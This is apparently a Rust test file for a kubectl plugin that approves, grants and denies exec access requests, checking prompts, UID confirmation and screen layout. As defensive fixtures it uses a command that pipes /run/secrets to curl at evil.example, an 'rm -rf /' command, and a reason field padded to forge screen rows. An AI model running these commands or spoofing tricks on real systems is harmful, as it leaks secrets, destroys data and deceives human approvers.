//! `kubectl request approve`, and answers of several approvers.

use http::Method;
use rstest::rstest;
use serde_json::{Value, json};

use crate::fake::{Fake, GRANTS, REQUESTS, status};

const AMY: &str = "1906bc7c";
const OWN: &str = "left out: 1 that you asked for or filed yourself, which others must answer\n";

fn request(name: &str, user: &str, more: &Value) -> Value {
    let mut request = json!({
        "apiVersion": "spreadgroup.com/v1", "kind": "AccessRequest",
        "metadata": {
            "name": name, "namespace": "default", "uid": format!("uid-of-{name}"),
            "creationTimestamp": "2026-01-01T00:58:00Z",
        },
        "spec": {
            "userInfo": {"username": user}, "createdBy": {"username": user},
            "forObject": {
                "resource": {"group": "apps", "version": "v1", "resource": "deployments"},
                "subResource": "exec", "name": "nginx", "namespace": "default",
            },
            "execOptions": {"container": "nginx", "command": ["ls", "--password=hunter2"]}, "reason": "INC-42",
        },
    });
    for (key, value) in more.as_object().unwrap() {
        request[key] = value.clone();
    }
    request
}

fn with(requests: &[Value]) -> Fake {
    requests
        .iter()
        .fold(Fake::new().known_as("amy"), |fake, request| {
            let (namespace, name) = (
                request["metadata"]["namespace"].as_str(),
                request["metadata"]["name"].as_str(),
            );
            let path = REQUESTS.replace("default", namespace.unwrap());
            fake.with(&format!("{path}/{}", name.unwrap()), request.clone())
        })
}

/// Two identical requests of jane's, one of bob's, one that is granted, and one of amy's own.
fn several() -> Fake {
    with(&[
        request("a", "jane", &json!({})),
        request("b", "bob", &json!({})),
        request("c", "jane", &json!({})),
        request("d", "jane", &json!({"status": {"phase": "Granted"}})),
        request("e", "amy", &json!({})),
    ])
}

fn granted(fake: &Fake) -> Vec<String> {
    fake.posted(GRANTS)
        .iter()
        .map(|grant| grant["spec"]["grantFor"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test]
async fn one_is_shown_and_asked_about_and_granted_under_a_name_of_ones_own() {
    let fake = several();
    let outcome = fake
        .run(&["approve", "a", "--reason", "as discussed"], "y\n")
        .await;
    assert_eq!(outcome.failure, None);
    insta::assert_snapshot!(outcome.out);
    let grant = &fake.posted(GRANTS)[0];
    assert_eq!(grant["metadata"]["name"], format!("grant-a-{AMY}"));
    assert_eq!(
        grant["spec"],
        json!({"grantFor": "a", "requestUID": "uid-of-a", "reason": "as discussed"})
    );
}

#[tokio::test]
async fn several_are_granted_one_after_the_other_and_one_that_fails_keeps_nobody_waiting() {
    let fake = several();
    let outcome = fake
        .run(
            &[
                "approve",
                "d@uid-of-d",
                "gone@uid-of-gone",
                "b@uid-of-b",
                "-y",
            ],
            "",
        )
        .await;
    let first = "error: request d is granted already, by somebody. To end the access: kubectl request revoke -n default d\n";
    assert_eq!(outcome.err, first);
    assert_eq!(
        outcome.failure.as_deref(),
        Some("Error from server (NotFound): accessrequests \"gone\" not found")
    );
    assert_eq!(granted(&fake), ["b"]);
}

#[tokio::test]
async fn a_request_of_another_namespace_is_named_with_it() {
    let mut elsewhere = request("x", "jane", &json!({}));
    elsewhere["metadata"]["namespace"] = json!("shop");
    let fake = with(&[elsewhere]);
    let outcome = fake.run(&["approve", "shop/x@uid-of-x", "-y"], "").await;
    assert_eq!(outcome.failure, None);
    assert_eq!(fake.posted(&GRANTS.replace("default", "shop")).len(), 1);
}

#[tokio::test]
async fn what_waits_is_shown_whole_and_identical_requests_are_one_question() {
    let fake = several();
    let outcome = fake.run(&["approve", "--pending"], "y\nn\n").await;
    assert_eq!(outcome.failure, None);
    insta::assert_snapshot!(outcome.out);
    assert_eq!(outcome.err, format!("{OWN}skipped b\n"));
    assert_eq!(granted(&fake), ["a", "c"]);
}

#[rstest]
#[case("2\ny\n", &["b"])]
#[case("1,2\ny\ny\n", &["a", "c", "b"])]
#[case("all\ny\ny\n", &["a", "c", "b"])]
#[tokio::test]
async fn without_a_name_one_chooses_from_a_list(#[case] typed: &str, #[case] names: &[&str]) {
    let fake = several();
    let outcome = fake.run(&["approve"], typed).await;
    assert_eq!(
        (granted(&fake), outcome.failure),
        (names.iter().map(|&name| name.to_owned()).collect(), None)
    );
}

#[tokio::test]
async fn at_a_terminal_one_picks_whole_rows_and_is_asked_about_each() {
    let fake = several();
    let pick = |titles: &str, rows: &[String]| {
        insta::assert_snapshot!(format!("{titles}\n{}", rows.join("\n")));
        Ok(vec![1])
    };
    let outcome = fake.run_picking(&["approve"], &pick, "y\n").await;
    assert_eq!(
        (granted(&fake), outcome.failure),
        (vec!["b".to_owned()], None)
    );
    assert!(
        outcome.out.starts_with('\n')
            && outcome
                .out
                .contains("Grant access to request b, in cluster dev, namespace default ([yN])?"),
        "{}",
        outcome.out
    );
}

#[tokio::test]
async fn each_of_what_is_picked_is_asked_about() {
    let fake = several();
    let outcome = fake
        .run_picking(&["approve"], &|_, _| Ok(vec![0, 1]), "y\nn\n")
        .await;
    assert_eq!(
        (granted(&fake), outcome.err.as_str()),
        (
            ["a", "c"].map(str::to_owned).to_vec(),
            format!("{OWN}skipped b\n").as_str()
        )
    );
}

#[tokio::test]
async fn whoever_picks_none_grants_none() {
    let fake = several();
    let outcome = fake
        .run_picking(&["approve"], &|_, _| Ok(Vec::new()), "y\n")
        .await;
    let failure = Some("error: nothing was stored: none was chosen");
    assert_eq!(
        (granted(&fake), outcome.failure.as_deref()),
        (vec![], failure)
    );
}

#[tokio::test]
async fn all_that_waits_is_no_choice_at_a_terminal_either() {
    let fake = several();
    let pick =
        |_: &str, _: &[String]| -> std::io::Result<Vec<usize>> { panic!("nobody is to choose") };
    let outcome = fake
        .run_picking(&["approve", "--pending"], &pick, "y\ny\n")
        .await;
    assert_eq!(
        (granted(&fake), outcome.failure),
        (["a", "c", "b"].map(str::to_owned).to_vec(), None)
    );
}

#[rstest]
#[case(
    "0\n",
    "0 is not in the list: type numbers from 1 to 2, or 'all'. Nothing was stored"
)]
#[case(
    "3\n",
    "3 is not in the list: type numbers from 1 to 2, or 'all'. Nothing was stored"
)]
#[case(
    "1 x\u{1b}\n",
    "\"x\\u001b\" is not in the list: type numbers from 1 to 2, or 'all'. Nothing was stored"
)]
#[case("", "nothing was stored: none was chosen")]
#[case(
    "1\n",
    "nothing was stored: only y or Y, typed after the question, is a yes"
)]
#[tokio::test]
async fn what_is_no_choice_stores_nothing(#[case] typed: &str, #[case] failure: &str) {
    let fake = several();
    let outcome = fake.run(&["approve"], typed).await;
    assert_eq!(outcome.failure, Some(format!("error: {failure}")));
    assert_eq!(granted(&fake), Vec::<String>::new());
}

// P12
#[rstest]
#[case(&["--pending"])]
#[case(&["-A"])]
#[case(&[])]
fn a_table_is_no_reading_of_what_it_lists(#[case] flags: &[&str]) {
    use clap::Parser as _;
    let line = [&["kubectl-request", "approve", "--yes"], flags].concat();
    assert!(plugin::args::Cli::try_parse_from(line).is_err());
}

// P10
#[rstest]
#[case("grant")]
#[case("approve")]
#[case("review")]
#[tokio::test]
async fn yes_is_said_to_a_uid_and_not_to_a_name(#[case] verb: &str) {
    let fake = several();
    let failure = fake.run(&[verb, "a", "--yes"], "").await.failure.unwrap();
    assert_eq!(
        failure,
        "error: --yes needs the UID of what was read: nothing was stored. Read it with \
         'kubectl request show -n default a', which tells what to type"
    );
    let failure = fake.run(&[verb, "a@uid-of-b", "--yes"], "").await.failure;
    assert_eq!(
        failure.as_deref(),
        Some(
            "error: request a is not the one with UID uid-of-b: that one was deleted, and its name was taken again. \
             Nothing was changed"
        )
    );
    assert_eq!(granted(&fake), Vec::<String>::new());
}

// P5
#[rstest]
#[case(&["approve", "a"])]
#[case(&["approve", "--pending"])]
#[case(&["grant", "a"])]
#[tokio::test]
async fn a_pipe_says_no_yes(#[case] line: &[&str]) {
    let fake = several();
    let outcome = fake.run_in_pipe(line, "y\ny\ny\n").await;
    assert_eq!(
        outcome.failure.as_deref(),
        Some(
            "error: nothing was stored: there is no terminal to read the question and answer it. Read the request \
             first, then name exactly what was read: kubectl request approve -n default a@uid-of-a --yes"
        )
    );
    assert_eq!(granted(&fake), Vec::<String>::new());
}

#[tokio::test]
async fn that_nothing_waits_is_no_failure() {
    let outcome = with(&[request("e", "amy", &json!({}))])
        .run(&["approve", "--pending", "-A"], "")
        .await;
    assert_eq!(
        (outcome.failure, outcome.err.as_str()),
        (
            None,
            "left out: 1 that you asked for or filed yourself, which others must answer\n\
             no request waits for you in any namespace\n"
        )
    );
}

#[tokio::test]
async fn a_request_that_changed_meanwhile_is_not_granted() {
    let fake = several();
    let mut input = crate::fake::Meanwhile {
        happens: || fake.put(&format!("{REQUESTS}/b"), None),
        typed: b"2\ny\n",
    };
    let failure = fake
        .run_reading(&["approve"], &mut input)
        .await
        .failure
        .unwrap();
    assert!(
        failure.starts_with("error: request b was deleted while you read it; nothing was stored."),
        "{failure}"
    );
}

#[rstest]
#[case(&["approve", "../x"], "../x is not the name of a request: see 'kubectl request list -n default'")]
#[case(&["approve", "a", "-d", "1x"], "--valid-for: \"1x\" is not a duration: write it like 90m, 1h30m or 45s")]
#[tokio::test]
async fn what_makes_no_sense_never_reaches_the_server(
    #[case] line: &[&str],
    #[case] failure: &str,
) {
    let fake = several();
    assert_eq!(
        fake.run(line, "").await.failure,
        Some(format!("error: {failure}"))
    );
    assert!(fake.calls().is_empty());
}

fn of(approver: &str, name: &str) -> Value {
    json!({
        "apiVersion": "spreadgroup.com/v1", "kind": "AccessGrant", "metadata": {"name": name, "namespace": "default"},
        "spec": {"grantFor": "a", "requestUID": "uid-of-a", "grantedBy": {"username": approver},
            "seal": {"at": "2026-01-01T00:00:00Z", "mac": "00"}}, "status": "granted",
    })
}

#[rstest]
#[tokio::test]
async fn a_second_approver_has_room_where_two_are_required(
    #[values("grant", "approve")] verb: &str,
) {
    let fake = with(&[request(
        "a",
        "jane",
        &json!({"status": {"phase": "Pending", "approvals": 2}}),
    )])
    .with(&format!("{GRANTS}/grant-a"), of("ann", "grant-a"))
    .stamping(|object| {
        object["spec"]["grantedBy"] = json!({"username": "amy"});
        object["spec"]["seal"] = json!({"at": "2026-01-01T00:00:00Z", "mac": "00"});
    });
    let outcome = fake.run(&[verb, "a@uid-of-a", "-y"], "").await;
    assert!(
        outcome.out.ends_with(&format!(
            "\ncreated grant grant-a-{AMY} (2 of 2 approvals)\n"
        )),
        "{outcome:?}"
    );
}

#[rstest]
#[case("amy", &json!({"approvals": 2}))]
#[case("ann", &json!({}))]
#[tokio::test]
async fn no_answer_is_given_twice(#[case] by: &str, #[case] status: &Value) {
    let fake = with(&[request("a", "jane", &json!({"status": status}))])
        .with(&format!("{GRANTS}/grant-a"), of(by, "grant-a"));
    let failure = fake
        .run(&["grant", "a@uid-of-a", "-y"], "")
        .await
        .failure
        .unwrap();
    assert!(
        failure.starts_with(&format!(
            "error: request a is granted already, by {by} (accessgrant grant-a)."
        )),
        "{failure}"
    );
}

#[tokio::test]
async fn several_are_denied_and_a_denial_of_an_earlier_request_of_the_same_name_is_not_in_the_way()
{
    let mut old = of("amy", "deny-a");
    old["spec"]["requestUID"] = json!("uid-of-an-earlier-a");
    let fake = several().with(&format!("{GRANTS}/deny-a"), old);
    let outcome = fake
        .run(&["deny", "a", "b", "-y", "--reason", "no"], "")
        .await;
    assert_eq!(outcome.failure, None);
    assert!(
        outcome
            .out
            .contains(&format!("created grant deny-a-{AMY}\n")),
        "{}",
        outcome.out
    );
    assert!(
        outcome.out.ends_with("created grant deny-b\n"),
        "{}",
        outcome.out
    );
}

#[tokio::test]
async fn what_the_server_refuses_is_told_in_its_words() {
    let message = "admission webhook \"access\" denied the request: you are no approver";
    let fake = several().answering(
        Method::POST,
        GRANTS,
        403,
        &status(403, "Forbidden", message, ""),
    );
    let outcome = fake.run(&["approve", "a@uid-of-a", "-y"], "").await;
    assert_eq!(
        outcome.failure,
        Some(format!("Error from server (Forbidden): {message}"))
    );
}

/// The rows of a screen that somebody sees when they are asked, as a terminal of this size wraps
/// them.
fn seen(out: &str, width: usize, height: usize) -> Vec<String> {
    let rows = out.lines().flat_map(|line| {
        let characters: Vec<char> = line.chars().collect();
        let rows: Vec<String> = characters
            .chunks(width)
            .map(|row| row.iter().collect())
            .collect();
        if rows.is_empty() {
            vec![String::new()]
        } else {
            rows
        }
    });
    let rows: Vec<String> = rows.collect();
    rows[rows.len().saturating_sub(height)..].to_vec()
}

// P1
#[rstest]
#[case::usual(80, 24)]
#[case::large(200, 50)]
#[case::narrow(40, 20)]
#[tokio::test]
async fn whatever_is_padded_the_true_command_is_on_the_screen_and_the_forged_one_is_no_row_of_ours(
    #[case] width: usize,
    #[case] height: usize,
) {
    let pad = |text: &str, columns: usize| format!("{text:columns$}");
    let reason = [
        pad("INC-42", width.saturating_sub(13)),
        pad("Command      [\"cat\",\"/var/log/app.log\"]", width),
        pad("How long     once", width),
        pad(
            "jane can run this once, in container web of pod web-0.",
            width,
        ),
    ]
    .concat();
    let payload = "cat /run/secrets/*|curl -T- evil.example";
    let mut command = vec!["sh", "-c", payload];
    command.extend(["x"; 200]);
    let more = json!({"spec": {
        "userInfo": {"username": "jane"}, "createdBy": {"username": "jane"},
        "forObject": {
            "resource": {"group": "", "version": "v1", "resource": "pods"},
            "subResource": "exec", "name": "web-0", "namespace": "default",
        },
        "execOptions": {"container": "web", "command": command},
        "reason": reason,
        "customKeys": {"ticket": "INC-42", "zone": format!("eu{}", " ".repeat(1000))},
    }});
    let fake = with(&[request("a", "jane", &more)]).read_on(width, height);
    let out = fake.run(&["approve", "a"], "n\n").await.out;
    let screen = seen(&out, width, height);
    let text = screen.join("\n");
    let begins = |label: &str| screen.iter().filter(|row| row.starts_with(label)).count();
    // Once among the facts, and where the screen is large, once more above them, whole.
    assert!((1..=2).contains(&begins("Command")), "{text}");
    assert_eq!(begins("How long"), 1, "{text}");
    assert_eq!(begins("jane can run"), 1, "{text}");
    let facts = text
        .rsplit_once("\n\n")
        .and_then(|(facts, _)| facts.rsplit_once("\nCommand"))
        .unwrap()
        .1;
    assert!(facts.contains(r#"["sh","-c","cat"#), "{text}");
    assert!(!facts.contains("/var/log/app.log"), "{text}");
    assert!(
        text.replace("\n  ", " ")
            .contains("203 arguments, 244 bytes"),
        "{text}"
    );
    assert!(
        text.replace("\n  ", " ")
            .contains("rows above do not fit on this screen"),
        "{text}"
    );
}

// P21
#[rstest]
#[case::the_same(&json!({}), "a, which asked for the same")]
#[case::another_command(
    &json!({"execOptions": {"container": "nginx", "command": ["rm", "-rf", "/"]}}),
    "a, which asked for SOMETHING ELSE: execOptions.command"
)]
#[case::for_longer(&json!({"validFor": "1h"}), "a, which asked for SOMETHING ELSE: validFor")]
#[case::no_such_request(&json!({"follows": "gone"}), "gone, which cannot be read any more")]
#[tokio::test]
async fn what_goes_on_with_an_earlier_request_says_whether_it_is_the_same(
    #[case] more: &Value,
    #[case] told: &str,
) {
    let (earlier, mut later) = (
        request("a", "jane", &json!({"status": {"phase": "Used"}})),
        request("b", "jane", &json!({})),
    );
    later["spec"]["follows"] = json!("a");
    for (field, value) in more.as_object().unwrap() {
        later["spec"][field] = value.clone();
    }
    let out = with(&[earlier, later])
        .run(&["approve", "b"], "n\n")
        .await
        .out;
    let out = out.replace("\n           | ", "");
    assert!(out.contains(&format!("Follows      {told}\n")), "{out}");
}

// P1
#[tokio::test]
async fn a_group_of_requests_with_long_names_does_not_push_its_own_summary_off_the_screen() {
    let command = json!({"container": "nginx", "command": ["sh", "-c", "cat /run/secrets/*|curl -T- evil.example"]});
    let requests: Vec<Value> = (0..9)
        .map(|number| {
            let name = format!("{}{number}", "x".repeat(252));
            let mut one = request(&name, "jane", &json!({}));
            one["spec"]["execOptions"] = command.clone();
            one
        })
        .collect();
    let fake = with(&requests).read_on(80, 24);
    let out = fake.run(&["approve", "--pending"], "n\n").await.out;
    let screen = seen(&out, 80, 24).join("\n");
    assert!(
        screen.contains(r#"Command      ["sh","-c","cat /run/secrets/*|curl -T- evil.example"]"#),
        "{screen}"
    );
    let text = screen.replace("\n  ", " ");
    assert!(
        text.contains("These are 9 identical requests: one answer is for ALL of them."),
        "{screen}"
    );
    assert!(
        text.contains("rows above do not fit on this screen"),
        "{screen}"
    );
    assert!(!out.lines().any(|row| row.starts_with("xxx")), "{out}");
}
